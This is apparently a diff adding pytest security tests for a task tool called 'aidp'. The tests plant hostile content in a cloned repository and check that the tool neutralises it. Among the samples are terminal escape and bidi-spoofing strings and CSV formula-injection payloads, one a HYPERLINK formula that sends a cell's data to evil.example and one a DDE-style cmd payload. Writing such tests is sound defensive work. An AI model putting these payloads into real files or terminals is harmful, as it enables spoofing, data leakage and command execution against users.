@@ -1,0 +1,239 @@
+"""Issue 27, items 4, 5, 11 and 12: what a cloned repository makes aidp *show* or *run*.
+
+Each test is an attack from the outside: an attacker's repository built with real git,
+cloned by the user, and `aidp` run as a subprocess in the clone (the `hostile` fixture,
+tests/reliability/conftest.py). docs/security.md lists the twelve items and these tests.
+
+- item 4: trust covers the trusted script's folder (a pulled `tools/json.py` next to a
+  trusted `tools/agent.py` needs trust again);
+- item 5: `git show` through aidp's diff driver hides nothing a commit changed;
+- item 11: no byte of foreign text reaches a terminal raw (C0, C1, ESC, bidi);
+- item 12: CSV export neutralises cells a spreadsheet would run as formulas.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import pty
+import subprocess
+import sys
+import unicodedata
+from pathlib import Path
+
+import pytest
+
+# --- item 11: an inert terminal ---------------------------------------------------------------
+
+# The attacks, as an attacker plants them: a C1 CSI that clears the screen, ESC c (a full
+# terminal reset), an OSC 8 link that hides its address, a window title, a bidi override
+# that shows "exe.txt" for "txt.exe", and a tag character (invisible).
+C1_CSI = "\x9b2J"
+HOSTILE = {
+    "c1": f"clear {C1_CSI} here",
+    "reset": "reset \x1bc here",
+    "osc8": "see \x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\ now",
+    "title": "title \x1b]0;owned\x07 set",
+    "bidi": "invoice \u202egnp.exe",
+    "isolate": "a \u2066b\u2069 \u200f\u061c c",
+    "tag": "tag \U000e0041 char",
+}
+# What a terminal would act on or not show: every Cc (but newline and tab), Cf, Zl, Zp.
+_DANGEROUS = {chr(c) for c in range(0x110000)
+              if unicodedata.category(chr(c)) in ("Cc", "Cf", "Zl", "Zp")} - {"\n", "\t"}
+_SGR_FREE_ENV = {"NO_COLOR": "1"}
+
+
+def assert_inert(text: str, where: str) -> None:
+    raw = sorted({f"U+{ord(ch):04X}" for ch in text if ch in _DANGEROUS})
+    assert raw == [], f"raw {raw} reached the terminal from {where}: {text!r}"
+
+
+def _task(n: int, description: str, **more: object) -> str:
+    record = {"id": f"task_1790000000_{n:08x}", "description": description,
+              "status": "pending", "priority": "medium",
+              "created_at": "2026-09-21T12:00:00.000000Z",
+              "updated_at": "2026-09-21T12:00:00.000000Z", "session": "default",
+              "tags": [], **more}
+    return json.dumps(record, ensure_ascii=False) + "\n"
+
+
+def _planted_tasklist(hostile) -> list[str]:
+    """A committed tasklist whose every text field carries the attacks; the ids."""
+    lines = [_task(n, text, abandoned_reason=text, session=f"s{text}")
+             for n, text in enumerate(HOSTILE.values(), start=1)]
+    hostile.write(".aidp/tasklist.jsonl", "".join(lines))
+    hostile.write(".gitattributes", ".aidp/tasklist.jsonl merge=union\n")
+    hostile.clone()
+    return [f"task_1790000000_{n:08x}" for n in range(1, len(HOSTILE) + 1)]
+
+
+def _on_a_terminal(hostile, *args: str) -> tuple[int, str]:
+    """`aidp ARGS` in the clone with stdout and stderr on a terminal (a pty); what the
+    terminal received, as UTF-8 text (bytes that are not UTF-8 shown as U+DCxx)."""
+    main, child = pty.openpty()
+    try:
+        proc = subprocess.Popen([sys.executable, "-m", "aidp", *args], cwd=hostile.victim,
+                                env={**hostile.env, **_SGR_FREE_ENV}, stdin=subprocess.DEVNULL,
+                                stdout=child, stderr=child)
+    finally:
+        os.close(child)
+    chunks = []
+    while True:
+        try:
+            chunk = os.read(main, 65536)
+        except OSError:  # EIO: the child closed the terminal
+            break
+        if not chunk:
+            break
+        chunks.append(chunk)
+    os.close(main)
+    code = proc.wait(timeout=60)
+    # a pty turns "\n" into "\r\n": that CR is the terminal's own
+    return code, b"".join(chunks).replace(b"\r\n", b"\n").decode("utf-8", "surrogateescape")
+
+
+@pytest.mark.parametrize("args", [
+    ("tasks", "list", "--all"),
+    ("tasks", "list", "--all", "--json"),
+    ("tasks", "list", "--all", "-f", "csv"),
+    ("tasks", "list", "--all", "-f", "ids"),
+    ("tasks", "show", "task_1790000000_00000001", "--json"),
+    ("tasks", "show", "task_1790000000_00000005"),
+    ("tasks", "export", "-f", "jsonl"),
+    ("tasks", "export", "-f", "markdown"),
+    ("tasks", "history", "task_1790000000_00000002"),
+    ("tasks", "show", "\x9b2J\x1bc\u202e"),  # an error quoting the user's input
+], ids=lambda a: " ".join(a).encode("unicode_escape").decode())
+def test_stored_text_reaches_a_terminal_inert(hostile, args: tuple[str, ...]) -> None:
+    _planted_tasklist(hostile)
+    code, shown = _on_a_terminal(hostile, *args)
+    assert code in (0, 1), shown
+    assert_inert(shown, " ".join(args))
+    assert "Traceback" not in shown
+
+
+def test_json_on_a_terminal_is_escaped_and_still_the_same_data(hostile) -> None:
+    """Escaped for the terminal, not changed: the JSON shown parses to the stored text,
+    and through a pipe the bytes are exactly the data."""
+    ids = _planted_tasklist(hostile)
+    code, shown = _on_a_terminal(hostile, "tasks", "show", ids[0], "--json")
+    assert code == 0, shown
+    assert "\\u009b2J" in shown
+    assert json.loads(shown)["description"] == HOSTILE["c1"]
+    piped = hostile.aidp("tasks", "show", ids[0], "--json")
+    assert C1_CSI in piped.out  # a pipe is data: exact
+    assert json.loads(piped.out)["description"] == HOSTILE["c1"]
+
+
+def test_a_hook_note_quoting_the_model_is_inert(hostile) -> None:
+    """The issue's case: the model's message holds `Update task: \\x9b2J\\x1bc status:
+    done`; the Stop hook's note on stderr (shown to the user by the agent) quotes it."""
+    _planted_tasklist(hostile)
+    hostile.aidp("init")
+    message = ("Update task: \x9b2J\x1bc status: done\n"
+               "File task: \u202egnp.exe \x1b]8;;https://evil.example/\x1b\\x\x1b]8;;\x1b\\\n"
+               "Update task: 1 status: \x1b]0;owned\x07")
+    event = json.dumps({"session_id": "s1", "hook_event_name": "Stop",
+                        "last_assistant_message": message})
+    result = hostile.aidp("hook", "claude", "Stop", stdin=event)
+    assert result.code == 0, result
+    assert_inert(result.err, "the Stop hook's notes")
+    assert "\\x9b2J\\x1bc" in result.err  # the note is there, as text
+    assert_inert(result.out, "the Stop hook's answer")
+
+
+HOSTILE_AGENT = """\
+import sys
+texts = {texts!r}
+for text in texts:
+    print("agent says " + text)
+    print("agent warns " + text, file=sys.stderr)
+print("File task: " + texts[0])
+"""
+
+
+def test_the_agents_streamed_output_is_inert(hostile) -> None:
+    """`aidp run` shows the agent's stdout and stderr as it streams: inert, whatever the
+    model (or a file it printed) wrote."""
+    _planted_tasklist(hostile)
+    agent = hostile.outside / "agent.py"
+    agent.write_text(HOSTILE_AGENT.format(texts=list(HOSTILE.values())), encoding="utf-8")
+    result = hostile.aidp("run", "go", "--max-continuations", "0",
+                          env={"AIDP_AGENT": f"{sys.executable} {agent}"})
+    assert result.code == 0, result
+    assert_inert(result.out, "aidp run's stdout")
+    assert_inert(result.err, "aidp run's stderr")
+    assert "agent says clear \\x9b2J here" in result.out
+    assert "reset \\x1bc here" in result.err
+
+
+# --- item 12: CSV formula injection --------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "'=already quoted", "plain text"]
+
+
+def _planted_formulas(hostile) -> None:
+    lines = [_task(n, text, tags=[f"{text[:1]}tag"] if text[:1] in "=+-@" else [],
+                   abandoned_reason=text)
+             for n, text in enumerate(FORMULAS, start=1)]
+    hostile.write(".aidp/tasklist.jsonl", "".join(lines))
+    hostile.clone()
+
+
+def _cells(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+@pytest.mark.parametrize("args", [("tasks", "export", "-f", "csv"),
+                                  ("tasks", "list", "--all", "-f", "csv")])
+def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(hostile, args) -> None:
+    _planted_formulas(hostile)
+    result = hostile.aidp(*args)
+    assert result.code == 0, result
+    rows = _cells(result.out)
+    for row in rows[1:]:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (cell, row)
+    shown = {row[1] for row in rows[1:]}
+    assert "'" + FORMULAS[0] in shown and "'@SUM(1,1)" in shown and "''=already quoted" in shown
+    assert "plain text" in shown
+    tags = {row[rows[0].index("tags")] for row in rows[1:]} - {""}
+    assert tags == {"'=tag", "'+tag", "'-tag", "'@tag"}
+
+
+def test_raw_csv_keeps_the_text_and_a_neutralised_export_imports_back_the_same(hostile) -> None:
+    _planted_formulas(hostile)
+    raw = hostile.outside / "raw.csv"  # a file: a text pipe would turn "\r" into "\n"
+    assert hostile.aidp("tasks", "export", "-f", "csv", "--raw", "-o", str(raw)).code == 0
+    assert set(FORMULAS) <= {row[1] for row in _cells(raw.read_bytes().decode("utf-8"))[1:]}
+    stored = {t["id"]: t for t in json.loads(hostile.aidp("tasks", "list", "--all", "--json").out)}
+
+    def text(tasks: dict) -> dict:
+        return {k: (t["description"], t["tags"], t["abandoned_reason"]) for k, t in tasks.items()}
+
+    for flag in ((), ("--raw",)):
+        exported = hostile.victim / "out.csv"
+        assert hostile.aidp("tasks", "export", "-f", "csv", "-o", str(exported), *flag).code == 0
+        fresh = hostile.outside / f"fresh{len(flag)}"
+        fresh.mkdir()
+        assert hostile.aidp("init", cwd=fresh).code == 0
+        imported = hostile.aidp("tasks", "import", str(exported), "--from", "csv", cwd=fresh)
+        assert imported.code == 0, imported
+        back = {t["id"]: t for t in json.loads(
+            hostile.aidp("tasks", "list", "--all", "--json", cwd=fresh).out)}
+        want = text(stored)
+        if flag:  # docs/guide.md: reading aidp's CSV takes one "'" off before a formula
+            quoted = next(k for k, t in stored.items() if t["description"] == FORMULAS[6])
+            want[quoted] = ("=already quoted", [], "=already quoted")
+        assert text(back) == want
+
+
+def test_raw_is_refused_for_a_format_it_does_not_apply_to(hostile) -> None:
+    _planted_formulas(hostile)
+    result = hostile.aidp("tasks", "export", "-f", "jsonl", "--raw")
+    assert result.code == 2 and result.out == ""
+    assert result.err.count("\n") == 1 and "--raw" in result.err and "csv" in result.err
